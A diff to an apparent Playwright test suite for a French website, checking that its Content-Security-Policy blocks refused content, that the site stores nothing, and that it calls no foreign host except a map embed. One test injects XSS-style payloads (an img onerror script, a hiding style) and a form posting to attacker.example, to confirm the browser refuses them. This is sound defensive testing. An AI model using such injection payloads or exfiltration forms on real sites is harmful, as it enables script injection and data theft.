@@ -6,14 +6,7 @@ import { sendButton } from "../support/contact-page";
 
 withBuiltSite();
 
-/** The same pages, with what the browser has refused because of the Content-Security-Policy or a digest. */
-async function watchedVisit(path: string): Promise<Visit & { refused: () => Promise<string[]> }> {
-  const visit = await newVisit();
-  await watch(visit.page);
-  await visit.page.goto(siteUrl(path));
-  return { ...visit, refused: () => refusedOn(visit.page) };
-}
-
+/** Notes what the browser refuses because of the Content-Security-Policy. */
 function watch(page: Page): Promise<unknown> {
   return page.addInitScript(() => {
     const refused: string[] = [];
@@ -24,69 +17,78 @@ function watch(page: Page): Promise<unknown> {
   });
 }
 
-function refusedOn(page: Page): Promise<string[]> {
-  return page.evaluate(() => (window as unknown as { refused: string[] }).refused);
+const refusedOn = (page: Page): Promise<string[]> => page.evaluate("window.refused");
+/** Set by texts of data/ that are taken for a script. */
+const isHacked = (page: Page) => page.evaluate(() => "hacked" in window);
+
+async function watchedVisit(path: string): Promise<Visit> {
+  const visit = await newVisit();
+  await watch(visit.page);
+  await visit.page.goto(siteUrl(path));
+  return visit;
 }
+
+const isForeign = (address: string) => !address.startsWith(siteUrl("/")) && !address.startsWith("data:");
+const isMap = (address: string) => address.startsWith("https://www.openstreetmap.org/export/embed.html?");
 
 const open = sharedTab({}, watch);
 
-test.each([...paths, unknownPath])("%s does all it does without breaking the policy", async (path) => {
-  const { page, problems } = await open(path);
-  if (await page.locator(islandControl).count()) await hydrate(page);
-  await page.evaluate(() => scrollTo({ top: document.body.scrollHeight, behavior: "instant" }));
-  await page.waitForLoadState("networkidle");
-  expect(await refusedOn(page)).toEqual([]);
-  expect(problems.filter((problem) => /policy|integrity/i.test(problem))).toEqual([]);
-  // Texts of data/ that read as a script would set this.
-  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
-});
+test.each([...paths, unknownPath])(
+  "%s keeps to its policy, stores nothing, and asks nobody else but the map",
+  async (path) => {
+    const { page, problems, requests } = await open(path);
+    if (await page.locator(islandControl).count()) await hydrate(page);
+    await page.evaluate(() => scrollTo({ top: document.body.scrollHeight, behavior: "instant" }));
+    await page.waitForLoadState("networkidle");
+    expect(await refusedOn(page)).toEqual([]);
+    expect(problems.filter((problem) => /policy|integrity/i.test(problem))).toEqual([]);
+    expect(await isHacked(page)).toBe(false);
 
-test("neither the menu, nor a walk through the site, nor the notices, nor the map break it", async () => {
-  const { page, problems, refused } = await watchedVisit("/");
-  // The window is resized below: the browser complains about a cross-fade that this interrupts.
-  await page.emulateMedia({ reducedMotion: "reduce" });
-  await page.setViewportSize({ width: 390, height: 844 });
-  for (const path of ["/solutions", "/projets", "/a-propos", "/contact"]) {
-    await page.locator("header button[popovertarget]").click();
-    await page.locator(`header nav a[href="${path}"]`).click();
-    await page.waitForURL(siteUrl(path));
-  }
-  await page.setViewportSize({ width: 1280, height: 800 });
-  await sendButton(page).click();
-  await page.getByText("Vous devez accepter l'utilisation de vos données.").first().waitFor();
-  await page.locator("iframe").scrollIntoViewIfNeeded();
-  await page.frameLocator("iframe").getByText("Carte").waitFor();
-  expect(await refused()).toEqual([]);
-  expect(problems).toEqual([]);
-});
+    expect(requests.filter((address) => isForeign(address) && !isMap(address))).toEqual([]);
+    const stored = await page.evaluate(async () => ({
+      cookies: document.cookie,
+      local: Object.keys(localStorage),
+      // Gatsby's note of where the visitor has scrolled to, gone with the tab.
+      session: Object.keys(sessionStorage).filter((key) => !key.startsWith("@@scroll|")),
+      databases: (await indexedDB.databases()).length,
+      caches: (await caches.keys()).length,
+    }));
+    expect(stored).toEqual({ cookies: "", local: [], session: [], databases: 0, caches: 0 });
+  },
+);
 
-test("notices get the styles of their library although the policy forbids style elements", async () => {
-  const { page } = await watchedVisit("/contact");
+test("neither the menu, nor the notices, whose library brings its own styles, nor the map break the policy", async () => {
+  const { page, problems } = await watchedVisit("/contact");
   await sendButton(page).click();
   const container = page.locator(".notistack-SnackbarContainer");
   await container.waitFor();
   expect(await container.evaluate((element) => getComputedStyle(element).position)).toBe("fixed");
+  await page.locator("iframe").scrollIntoViewIfNeeded();
+  await page.frameLocator("iframe").getByText("Carte").waitFor();
+  await page.setViewportSize({ width: 390, height: 844 });
+  await page.locator("header button[popovertarget]").click();
+  expect(await refusedOn(page)).toEqual([]);
+  expect(problems).toEqual([]);
 });
 
 test("an injected script does not run, an injected style does not apply, a form goes nowhere else", async () => {
-  const { page, refused } = await watchedVisit("/");
+  const { page } = await watchedVisit("/");
   await page.evaluate(() => {
     document.body.insertAdjacentHTML(
       "beforeend",
       `<style>h1 { display: none }</style><img src="x" onerror="window.hacked = 1" alt="">
        <form action="https://attacker.example/" method="post"></form>`,
     );
-    const script = document.createElement("div");
-    script.innerHTML = "<svg onload='window.hacked = 1'></svg>";
-    document.body.append(script);
+    // Not by a click: the page's own script would hold that back.
+    [...document.forms].at(-1)?.submit();
   });
-  // Not by a click: the page's own script would hold that back.
-  await page.evaluate(() => [...document.forms].at(-1)?.submit());
-  await page.waitForTimeout(200);
-  expect(page.url()).toBe(siteUrl("/"));
-  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
-  expect(await page.getByRole("heading", { level: 1 }).isVisible()).toBe(true);
-  expect((await refused()).map((line) => line.split(" ")[0])).toEqual(
-    expect.arrayContaining(["style-src-elem", "script-src-attr", "form-action"]),
+  await page.waitForFunction(
+    () => new Set(Object(window).refused.map((line: string) => line.split(" ")[0])).size === 3,
   );
+  expect((await refusedOn(page)).map((line) => line.split(" ")[0]).toSorted()).toEqual(
+    expect.arrayContaining(["form-action", "script-src-attr", "style-src-elem"]),
+  );
+  expect(page.url()).toBe(siteUrl("/"));
+  expect(await isHacked(page)).toBe(false);
+  expect(await page.locator("h1").isVisible()).toBe(true);
 });
